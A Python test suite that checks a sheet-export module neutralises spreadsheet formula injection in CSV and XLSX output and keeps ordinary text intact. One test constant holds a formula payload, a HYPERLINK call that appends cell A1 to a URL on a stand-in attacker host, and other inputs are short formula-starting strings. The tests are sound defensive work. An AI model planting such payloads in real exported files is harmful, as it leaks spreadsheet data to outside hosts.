"""What leaves as a file: no cell of it is a formula, in whatever program it is opened, and its head says what it is."""

import csv
import io
import re
import zipfile
from collections.abc import Iterator

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from words.sheets import as_csv, as_workbook

HEADINGS = ["a", "b"]
HEAD = [["title", "CD-1"], ["as of", "2026-11-02"]]
BREAKS = r"\r\n|[\r\n\v\f\x85\u2028\u2029]"
REASONS = 'Không đủ căn cứ;=HYPERLINK("http://xau.example/?"&A1;"Bấm")'
written = st.lists(
    st.sampled_from(["=1+1", "@x", "-2", "+3", '"', "'", " ", ";", ",", "\t", "|", "\n", "\r", "\u200b", "căn cứ"]), max_size=8
).map("".join)


def cells(content: bytes) -> Iterator[str]:
    """Every cell that any program makes of the file: parted by any of these, with quotation marks heeded or not."""
    text = content.decode("utf-8-sig")
    for parting in (",", ";", "\t", "|"):
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=parting):
            yield from row
        for line in re.split(BREAKS, text):
            yield from line.split(parting)


def begins_a_formula(cell: str) -> bool:
    return cell.lstrip('" \t\r\n\u200b').startswith(("=", "+", "-", "@"))


@given(written, written)
@example(REASONS, "x")
@example("x\n=1+1", '";"=1+1')
def test_no_cell_of_a_csv_file_is_a_formula_whatever_parts_it(one: str, other: str) -> None:
    assert [cell for cell in cells(as_csv(HEADINGS, [[one, other]], [["title", one]])) if begins_a_formula(cell)] == []


def test_what_looks_like_no_formula_is_left_as_it_was_written() -> None:
    text = 'Đường dây nóng 24/7; tiết kiệm 5 - 7 ngày, "một cửa"\nemail: a@b.vn'
    assert [*csv.reader(io.StringIO(as_csv(HEADINGS, [[text, 3]]).decode("utf-8-sig"), newline=""))][1] == [text, "3"]


@pytest.mark.parametrize("text", [REASONS, "=1+1", "http://xau.example"])
def test_what_people_wrote_is_text_in_a_workbook(text: str) -> None:
    content = as_workbook("s", HEADINGS, [[text, 1]], [["title", text]])
    sheet = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert (b"<c " in sheet, b"<f>" in sheet) == (True, False)
    assert text in {cell for row in CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python() for cell in row}


def test_the_head_stands_above_the_table_and_a_line_between_them() -> None:
    book = CalamineWorkbook.from_filelike(io.BytesIO(as_workbook("s", HEADINGS, [["x", 1]], HEAD)))
    wanted = [*HEAD, [], HEADINGS, ["x", "1"]]
    assert [[str(cell).removesuffix(".0") for cell in row if cell != ""] for row in book.get_sheet_by_index(0).to_python()] == wanted
    assert [*csv.reader(io.StringIO(as_csv(HEADINGS, [["x", 1]], HEAD).decode("utf-8-sig"), newline=""))] == wanted
